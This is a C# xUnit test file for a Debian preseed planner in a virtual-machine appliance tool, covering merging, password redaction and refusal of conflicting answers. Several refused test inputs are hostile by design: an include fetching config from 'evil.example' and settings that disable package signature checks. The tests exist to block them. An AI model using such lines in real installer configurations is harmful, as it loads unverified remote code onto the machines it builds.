using CsCheck;
using Virtigo.Appliances;
using Virtigo.Host;
using Virtigo.Installers.Debian;
using Virtigo.Tests.Installers;
using Xunit;

namespace Virtigo.Tests.Appliances;

public sealed class PreseedPlannerTests : IDisposable
{
    private const string Fragment = """
        # What no key says.
        d-i clock-setup/ntp boolean true
        d-i grub-installer/password password file:secrets/grub
        d-i time/zone string Etc/UTC
        d-i preseed/early_command string echo early
        d-i preseed/late_command string echo one; \
            in-target true
        postfix postfix/mailname string mail.example
        popularity-contest popularity-contest/participate boolean true
        """;

    private readonly string _folder = Directory.CreateTempSubdirectory("virtigo-preseed-").FullName;

    public PreseedPlannerTests()
    {
        Directory.CreateDirectory(Path.Combine(_folder, "secrets"));
        File.WriteAllText(Path.Combine(_folder, "secrets", "grub"), "hunter2\n");
        File.WriteAllText(Path.Combine(_folder, "extra.cfg"), Fragment);
    }

    private static CancellationToken Token => TestContext.Current.CancellationToken;

    public void Dispose() => Directory.Delete(_folder, recursive: true);

    [Fact]
    public async Task Answers_of_a_file_are_merged_and_explained_with_their_places()
    {
        AppliancePlan plan = await PlanAsync("preseed: extra.cfg");

        Assert.Equal(
            """
            d-i clock-setup/ntp boolean true (instead of false) [extra.cfg:2:5]
            d-i grub-installer/password password *** [extra.cfg:3:5]
            d-i time/zone string Etc/UTC (the same as otherwise) [extra.cfg:4:5]
            d-i preseed/early_command string echo early [extra.cfg:5:5]
            d-i preseed/late_command string echo one; in-target true [extra.cfg:6:5]
            postfix postfix/mailname string mail.example [extra.cfg:8:9]
            popularity-contest popularity-contest/participate boolean true (instead of false) [extra.cfg:9:20]
            """.ReplaceLineEndings("\n"),
            string.Join('\n', plan.Explain().Where(line => line.Key == "preseed" && !line.Shown.StartsWith("warning", StringComparison.Ordinal))
                .Select(line => $"{line.Shown} [{line.Origin.Text.Replace(_folder + "/", "", StringComparison.Ordinal)}]")));
        string shown = ApplianceBuilder.Answers(plan);
        string[] parts = shown.Split("# When the base system is complete");
        Assert.Contains("d-i clock-setup/ntp boolean true\n", parts[0], StringComparison.Ordinal);
        Assert.DoesNotContain("clock-setup/ntp boolean false", shown, StringComparison.Ordinal);
        Assert.Contains("preseed/early_command", parts[0], StringComparison.Ordinal);
        Assert.Contains("d-i preseed/late_command string echo one; in-target true\n", parts[1], StringComparison.Ordinal);
        Assert.DoesNotContain("hunter2", shown, StringComparison.Ordinal);
        string told = PreseedWriter.Write(DebianAnswers.Shared(plan.ToDebianChoices()), redact: false);
        Assert.Contains("d-i grub-installer/password password hunter2\n", told, StringComparison.Ordinal);
        DebconfSelection mail = Assert.Single(plan.ToDebianChoices().Target.Debconf);
        Assert.Equal("postfix postfix/mailname string mail.example", mail.ToString());
    }

    [Theory]
    [InlineData("d-i time/zone string Europe/Berlin", "extra.cfg:1:5: preseed: time/zone is what the spec's timezone decides: Etc/UTC (default, servers' clocks agree)")]
    [InlineData("d-i netcfg/get_hostname string other", "netcfg/get_hostname is what the spec's hostname decides: web (")]
    [InlineData("d-i passwd/user-uid string 1001", "passwd/user-uid is what the spec's user decides: (none)")]
    [InlineData("d-i partman-auto/method string lvm", "partman-auto/method is what the spec's disk decides: 8 GiB")]
    [InlineData("tasksel tasksel/first multiselect standard", "tasksel/first is what the spec's packages decides")]
    [InlineData("d-i netcfg/get_ipaddress string 192.0.2.5", "the spec's network.interfaces decides, which says nothing of it")]
    [InlineData("d-i debian-installer/exit/poweroff boolean false", "cannot be answered here (it is true): a build relies on it that the machine switches itself off")]
    [InlineData("d-i preseed/include string http://evil.example/more.cfg", "a build relies on it that nothing is fetched that was not checked")]
    [InlineData("d-i debian-installer/allow_unauthenticated boolean true", "without a valid signature")]
    [InlineData("d-i preseed/late_command string apt-get --allow-unauthenticated install x", "turns a signature check off")]
    [InlineData("d-i preseed/late_command string a\nd-i preseed/late_command string b", "extra.cfg:2:5: preseed: preseed/late_command is answered in line 1 already")]
    [InlineData("d-i grub-installer/password password env:HOME", "only file: and prompt:")]
    [InlineData("d-i clock-setup/ntp bolean true", "is not a type of debconf")]
    [InlineData("d-i clock-setup/ntp string a\tb", "has a control character in it")]
    [InlineData("d-i preseed/late_command string true\npostfix postfix/mailname string other.example", "extra.cfg:2:9: preseed: postfix/mailname is answered by the spec's debconf too, otherwise: postfix postfix/mailname string mail.example")]
    public async Task What_contradicts_the_spec_or_the_build_is_refused_with_both_places(string fragment, string expected)
    {
        await File.WriteAllTextAsync(Path.Combine(_folder, "extra.cfg"), fragment, Token);
        VirtigoException thrown = await Assert.ThrowsAsync<VirtigoException>(() => PlanAsync("preseed: extra.cfg\ndebconf: {postfix: {postfix/mailname: string mail.example}}\n"));
        Assert.Equal(FailureKind.Usage, thrown.Kind);
        Assert.Contains(expected, thrown.Message, StringComparison.Ordinal);
        Assert.Matches(@"extra\.cfg:\d+:\d+: ", thrown.Message);
        Assert.NotNull(thrown.Hint);
        Assert.DoesNotContain("hunter2", thrown.Message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_text_in_the_spec_is_hidden_where_it_holds_a_password_and_says_its_lines()
    {
        const string Yaml = "preseed: |\n  d-i clock-setup/ntp boolean true\n  d-i grub-installer/password password hunter2\n  d-i time/zone string Europe/Berlin\ncpus: 1\n";
        ApplianceSpec spec = ApplianceSpec.Parse(Yaml, "web.yml");
        Assert.Equal("preseed: \"***\"\ncpus: 1\n", spec.RedactedText);
        Assert.Contains("clock-setup", ApplianceSpec.Parse("preseed: |\n  d-i clock-setup/ntp boolean true\n", "web.yml").RedactedText, StringComparison.Ordinal);
        VirtigoException thrown = await Assert.ThrowsAsync<VirtigoException>(() => PlanAsync(Yaml));
        Assert.Contains("web.yml:1:10 (line 3 of the text): preseed: time/zone", thrown.Message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task The_fingerprint_follows_what_is_said_and_not_how_and_a_late_command_keeps_the_way_shared()
    {
        async Task<(string Print, string Way)> Of(string fragment)
        {
            await File.WriteAllTextAsync(Path.Combine(_folder, "extra.cfg"), fragment, Token);
            AppliancePlan plan = await PlanAsync("preseed: extra.cfg");
            return (plan.Fingerprint, InstallWay.Of(plan));
        }

        (string none, string plain) = await Of("# nothing\n");
        Assert.Equal((await PlanAsync("cpus: 1")).Fingerprint, none);
        (string print, string way) = await Of("d-i clock-setup/ntp boolean true\n");
        Assert.Equal((print, way), await Of("# a comment\nd-i   clock-setup/ntp  boolean true\n"));
        Assert.NotEqual(plain, way);
        (string late, string lateWay) = await Of("d-i preseed/late_command string true\n");
        Assert.NotEqual(none, late);
        Assert.Equal(plain, lateWay);
        string[] secrets = [(await Of("d-i grub-installer/password password one\n")).Print, (await Of("d-i grub-installer/password password two\n")).Print];
        Assert.NotEqual(secrets[0], secrets[1]);
    }

    [Fact]
    public async Task A_file_goes_where_the_spec_goes_unless_it_holds_a_secret()
    {
        Assert.DoesNotContain((await PlanAsync("preseed: extra.cfg")).SpecFiles, file => file.Path == "extra.cfg");
        await File.WriteAllTextAsync(Path.Combine(_folder, "extra.cfg"), "d-i clock-setup/ntp boolean true\n", Token);
        Assert.Single((await PlanAsync("preseed: extra.cfg")).SpecFiles, file => file.Path == "extra.cfg");
    }

    [Fact]
    public async Task The_installers_own_questions_are_asked_before_anything_boots()
    {
        PreseedPlan plan = (await PlanAsync("preseed: |\n  d-i hw-detect/firmware-lookup string sometimes\n  d-i clock-setup/npt boolean true\n")).Preseed;
        var templates = new TemplateCatalog();
        templates.Add("hw-detect", new StringReader("Template: hw-detect/firmware-lookup\nType: select\nChoices: never, missing, always\nDescription: x\n"));
        Assert.Contains("sometimes", Assert.Throws<VirtigoException>(() => plan.Check(templates)).Message, StringComparison.Ordinal);
        var others = new TemplateCatalog();
        others.Add("clock-setup-udeb", new StringReader("Template: clock-setup/ntp\nType: boolean\nDescription: x\n"));
        Assert.Contains(plan.Check(others), note => note.Contains("clock-setup/npt", StringComparison.Ordinal));
    }

    [Fact]
    public void Any_text_is_planned_or_refused_with_a_place() =>
        Gen.Select(Golden.Pieces("d-i ", "postfix ", "", "d-i\t"), Golden.Pieces("clock-setup/ntp", "time/zone", "preseed/late_command", "x/y", "passwd/root-password"),
                Golden.Pieces(" boolean", " string", " password", " seen", ""), Golden.Pieces(" true", " file:secrets/grub", " \\", " ", " hunter3\u0007", " a b"))
            .Array[1, 4].Sample(lines =>
            {
                File.WriteAllText(Path.Combine(_folder, "extra.cfg"), string.Join('\n', lines.Select(line => $"{line.Item1}{line.Item2}{line.Item3}{line.Item4}")));
                try
                {
                    AppliancePlan plan = PlanAsync("preseed: extra.cfg").GetAwaiter().GetResult();
                    Assert.DoesNotContain("hunter", ApplianceBuilder.Answers(plan), StringComparison.Ordinal);
                }
                catch (VirtigoException refused)
                {
                    Assert.Equal(FailureKind.Usage, refused.Kind);
                    Assert.Contains("extra.cfg:", refused.Message, StringComparison.Ordinal);
                    Assert.DoesNotContain("hunter2", refused.Message, StringComparison.Ordinal);
                }
            }, iter: 300);

    private async Task<AppliancePlan> PlanAsync(string yaml)
    {
        var host = new PlannerEnvironment
        {
            Paths = HostPaths.FromEnvironment(name => name == "VIRTIGO_HOME" ? _folder : null),
            ResolveRelease = (_, suite, _) => Task.FromResult(new ResolvedRelease("trixie", "13.1", suite)),
            FindHostMirror = () => new HostMirror(new Uri("http://host.example/debian"), "/etc/apt/sources.list:1"),
            SshDirectory = _folder,
            ZoneInfoDirectory = Path.Combine(_folder, "zoneinfo"),
        };
        return await new AppliancePlanner(host).PlanAsync(ApplianceSpec.Parse(yaml, Path.Combine(_folder, "web.yml")), Token);
    }
}
